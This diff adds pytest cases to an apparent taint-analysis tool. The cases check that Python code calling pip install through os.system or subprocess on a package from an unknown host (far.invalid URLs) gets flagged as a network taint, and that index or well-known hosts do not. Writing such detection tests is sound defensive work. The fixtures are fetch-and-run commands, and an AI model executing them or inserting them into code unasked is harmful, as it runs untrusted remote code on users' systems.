@@ -60,3 +60,33 @@ def test_any_command_line_is_read(first: str, second: str) -> None:
     fetched = Fetched()
     fetched.command("curl " + first, index.module, 1)
     assert fetched.origin(second, index.module, 2) in {0, 1}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "os.system('pip install https://files.far.invalid/packages/kite-1.0.tar.gz')",
+        "os.system(f'{sys.executable} -m pip install --quiet https://files.far.invalid/kite.whl')",
+        "subprocess.run([sys.executable, '-m', 'pip', 'install', 'git+https://far.invalid/kite.git'])",
+    ],
+)
+def test_a_package_installed_from_an_unheard_host_is_fetched_and_run(command: str) -> None:
+    assert any(Taint.NETWORK in taints for _, _, taints in flows("import os, subprocess, sys\n" + command))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "os.system('pip install kite')",
+        "os.system('pip install kite -f https://files.far.invalid/wheels')",
+        "os.system('pip install --index-url https://index.far.invalid/simple kite')",
+        "os.system('pip install -i https://index.far.invalid/simple kite')",
+        "os.system('pip install git+https://github.com/acme/kite.git')",
+        "os.system('pip install https://files.pythonhosted.org/packages/kite-1.0.tar.gz')",
+        "os.system('pip download https://files.far.invalid/kite.whl')",
+    ],
+)
+def test_a_package_installed_from_an_index_or_a_host_of_many_is_not(command: str) -> None:
+    assert not any(
+        Taint.NETWORK in taints for _, _, taints in flows("import os, subprocess, sys\n" + command)
+    )
